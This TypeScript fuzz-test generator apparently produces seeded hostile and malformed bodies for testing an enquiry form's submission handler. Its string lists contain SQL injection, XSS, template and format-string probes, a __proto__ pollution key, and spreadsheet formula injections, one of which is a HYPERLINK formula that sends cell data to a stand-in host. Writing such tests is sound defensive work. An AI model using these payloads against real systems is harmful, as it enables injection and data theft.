import { fields, largestBody } from "../../contract/submission.ts";
import { randomNumbers } from "../test-sites/random-numbers.ts";

export type HostileBody = {
  body: Uint8Array;
  headers: Record<string, string>;
  /** What must be found under this name afterwards; undefined when the body must be refused. */
  kept?: Record<string, string>;
};

/** Endless hostile enquiries, the same ones for the same seed. Each that is to be kept has a name of its own. */
export function* hostileBodies(seed: number): Generator<HostileBody> {
  const random = randomNumbers(seed);
  const below = (limit: number) => Math.floor(random() * limit);
  const pick = <T>(list: readonly T[]): T => list[below(list.length)] as T;

  for (let number = 0; ; number++) {
    const texts = Object.fromEntries(fields.enquiry.map((name) => [name, text()]));
    texts.name = `${number} ${texts.name}`;
    const { kept, ...sent } = pick(shapes)(texts, number);
    yield kept && sent.body.length <= largestBody ? { ...sent, kept } : sent;
  }

  function text(): string {
    const long = below(200) === 0 ? below(200_000) : below(200);
    return pick([
      () => pick(["=1+1", "+91 98765 43210", "@SUM(1)", "-1", '=HYPERLINK("https://x.example/?"&A1)', "\t=1", "1/2"]),
      () =>
        pick(["", " ", "\u00a0\u200b", "'; DROP TABLE enquiries; --", "<script>alert(1)</script>", "{{7*7}}", "%s%n"]),
      () => String.fromCharCode(...Array.from({ length: long % 200 }, () => below(65_536))),
      () => pick(["अदिति ", "🙏🏽", "a\u0301", "\u202e", "\r\n", "\0", "\uFEFF", "\ud83d"]).repeat(long),
    ])();
  }
}

type Shape = (texts: Record<string, string>, number: number) => HostileBody;

const json = { "Content-Type": "text/plain;charset=UTF-8" };
const form = { "Content-Type": "application/x-www-form-urlencoded" };

const shapes: readonly Shape[] = [
  (texts) => ({ body: utf8(JSON.stringify(texts)), headers: json, kept: texts }),
  (texts) => ({ body: utf8(JSON.stringify(texts)), headers: { "Content-Type": "image/png" }, kept: texts }),
  (texts) => ({
    body: utf8(`\uFEFF \n${JSON.stringify({ ...texts, __proto__: 1, extra: [texts] })}`),
    headers: json,
    kept: texts,
  }),
  (texts) => ({ body: utf8(JSON.stringify({ ...texts, suspect: true })), headers: {}, kept: texts }),
  // A browser writes a lone surrogate as U+FFFD and each line end as CRLF, which the receiver takes back.
  (texts) => ({ body: utf8(new URLSearchParams(texts).toString()), headers: form, kept: withPlainLineEnds(texts) }),
  (texts) => ({ body: utf8(JSON.stringify({ ...texts, mobile: undefined })), headers: json }),
  (texts, number) => ({
    body: utf8(JSON.stringify({ ...texts, email: [null, 5, {}, [texts.email], true][number % 5] })),
    headers: json,
  }),
  (texts) => ({ body: utf8(JSON.stringify([texts])), headers: json }),
  (texts) => ({ body: utf8(JSON.stringify(texts)).subarray(0, -1), headers: json }),
  // Bytes that are UTF-8 nowhere.
  (texts) => ({
    body: utf8(JSON.stringify({ ...texts, subject: "\u0001" }))
      .map((byte) => (byte === 0x30 ? 0xff : byte))
      .fill(0xff, 10, 11),
    headers: json,
  }),
  (_, number) => ({ body: utf8("[".repeat(number % 100_000)), headers: json }),
  (_, number) => ({ body: utf8(["", " ", "null", "5", '"text"', "name=Asha"][number % 6] ?? ""), headers: json }),
  (texts) => ({ body: utf8(JSON.stringify(texts)), headers: { "Content-Type": "multipart/form-data; boundary=x" } }),
  (_, number) => ({ body: utf8(number % 20 === 0 ? "x".repeat(largestBody + 1) : "\0"), headers: json }),
];

function withPlainLineEnds(texts: Record<string, string>): Record<string, string> {
  return Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, text.replaceAll("\r\n", "\n")]));
}

function utf8(text: string): Uint8Array {
  return new TextEncoder().encode(text);
}
